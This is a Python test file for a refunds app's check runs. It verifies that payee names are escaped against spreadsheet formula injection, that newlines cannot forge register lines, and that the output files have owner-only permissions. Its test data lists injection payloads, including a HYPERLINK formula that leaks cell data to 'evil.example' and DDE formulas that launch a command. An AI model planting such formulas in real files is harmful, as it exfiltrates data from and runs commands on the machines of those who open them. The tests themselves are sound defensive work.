"""The positive-pay file and the register go to the bank and its spreadsheets: a payee typed as a formula
is written as text, a newline cannot forge a register line, and both files are readable by their owner
only."""

import csv
import stat
from datetime import date
from pathlib import Path

import pytest

from refunds import checks
from refunds.models import Check

from .helpers import make_check_refund, make_deletion

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _check_dir(settings, tmp_path):
    settings.CHECK_RUN_DIR = tmp_path / "checkruns"


@pytest.mark.django_db
def test_formula_payees_are_written_as_text():
    deletion = make_deletion()
    for payee in FORMULAS:
        Check.objects.filter(pk=make_check_refund(deletion=deletion).check_payment.pk).update(payee=payee)
    run = checks.run_checks(today=date(2026, 12, 1))
    with open(run.positive_pay_file, newline="") as fh:
        payees = [row[4] for row in csv.reader(fh)][1:]
    assert len(payees) == len(FORMULAS)
    for written in payees:
        assert written.startswith("'"), written
        assert "\t" not in written and "\r" not in written
    register = Path(run.register_file).read_text()
    for line in register.splitlines():
        if "Pay to the order of:" in line:
            assert line.split("Pay to the order of: ", 1)[1].startswith("'")


@pytest.mark.django_db
def test_a_newline_in_the_payee_cannot_forge_a_register_line():
    deletion = make_deletion()
    check = make_check_refund(deletion=deletion).check_payment
    Check.objects.filter(pk=check.pk).update(payee="Ana Diaz\nCheck no. 999999   12/01/2026   $9,999.00")
    run = checks.run_checks(today=date(2026, 12, 1))
    lines = Path(run.register_file).read_text().splitlines()
    assert not any(line.startswith("Check no. 999999") for line in lines)


def test_ordinary_names_are_unchanged():
    assert checks.safe_cell("Ana Diaz") == "Ana Diaz"
    assert checks.safe_cell("O'Neil-Smith") == "O'Neil-Smith"


@pytest.mark.django_db
def test_check_run_files_are_readable_by_their_owner_only():
    make_check_refund(deletion=make_deletion())
    run = checks.run_checks(today=date(2026, 12, 1))
    for path in (run.positive_pay_file, run.register_file):
        assert stat.S_IMODE(Path(path).stat().st_mode) == 0o600, path
    assert stat.S_IMODE(Path(run.positive_pay_file).parent.stat().st_mode) == 0o700
